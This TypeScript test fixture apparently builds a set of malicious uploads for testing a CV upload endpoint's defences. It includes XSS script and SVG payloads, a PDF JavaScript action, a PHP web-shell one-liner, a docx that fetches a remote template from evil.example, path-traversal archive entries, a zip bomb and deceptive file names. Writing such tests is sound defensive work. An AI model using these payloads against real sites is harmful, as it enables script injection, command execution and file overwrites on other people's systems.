import { compoundFile } from '../server/testing/calls/compound-file.ts';
import { DOCX_PARTS, docxFile, pdfFile, zipFile } from '../server/testing/samples/files.ts';

export interface HostileFile {
  name: string;
  content: Buffer;
}

const SCRIPT = '<script>window.hit=1;alert(1)</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hit=1;alert(1)">${SCRIPT}</svg>`;
const MHTML = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b--\r\n`;
const WORD_XML = `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="x">${SCRIPT}</w:wordDocument>`;
const PDF_ACTION = pdfFile()
  .toString('latin1')
  .replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>');
const RELATIONS = `<Relationships><Relationship Id="r" Type="attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;

/** File contents, each uploaded under every allowed extension. */
const CONTENTS: Record<string, Buffer | string> = {
  html: HTML,
  svg: SVG,
  mhtml: MHTML,
  'word xml': WORD_XML,
  'script that begins like a pdf': `%PDF-1.4\n${HTML}`,
  'pdf that begins like html': `${HTML}\n${pdfFile().toString('latin1')}`,
  'pdf with an action': Buffer.from(PDF_ACTION, 'latin1'),
  'windows program': Buffer.from('MZ\x90\0\x03\0\0\0PE\0\0', 'latin1'),
  'linux program': Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
  'shell script': '#!/bin/sh\ntouch /tmp/hit\n',
  'php script': '<?php system($_GET["c"]); ?>',
  rtf: '{\\rtf1{\\object\\objocx{\\*\\objdata 01}}}',
  'empty compound file': compoundFile('Nothing'),
  'word document with html behind it': Buffer.concat([compoundFile('WordDocument'), Buffer.from(HTML)]),
  'zip of html': zipFile([{ name: 'index.html', text: HTML }]),
  'docx with macros': docxFile([{ name: 'word/vbaProject.bin', text: 'macro' }]),
  'docx with html in it': docxFile([{ name: 'word/afchunk.html', text: HTML }]),
  'docx that fetches a template': docxFile([{ name: 'word/_rels/settings.xml.rels', text: RELATIONS }]),
  'docx that climbs out of its folder': docxFile([{ name: '../../../../tmp/hit', text: 'x' }]),
  'docx that is a bomb': docxFile([{ name: 'word/media/x', text: 'x', declaredBytes: 0xfffffff0 }]),
  'docx of a thousand parts': zipFile([
    ...DOCX_PARTS,
    ...Array.from({ length: 1000 }, (_, index) => ({ name: `p${index}`, text: 'x' })),
  ]),
};

const NAMES = ['cv.pdf', 'cv.doc', 'cv.docx'];

/** Deceptive names for a valid PDF. */
const NAMED = [
  'cv.html',
  'cv.svg',
  'cv.pdf.html',
  'cv.html.pdf',
  'cv.pdf.',
  'cv.pdf ',
  'cv.pdf;.html',
  'cv.pdf\u202elmth.pdf',
  '<img src=x onerror=alert(1)>.pdf',
  '"><script>alert(1)</script>.pdf',
  '.htaccess',
  'con.pdf',
  '../../../../tmp/hit.pdf',
  'cv.pdf/../../index.html',
].map((name) => ({ name, content: pdfFile() }));

/** Over seventy uploads that no browser may ever run. */
export const HOSTILE_FILES: HostileFile[] = [
  ...Object.values(CONTENTS).flatMap((content) => NAMES.map((name) => ({ name, content: Buffer.from(content) }))),
  ...NAMED,
];
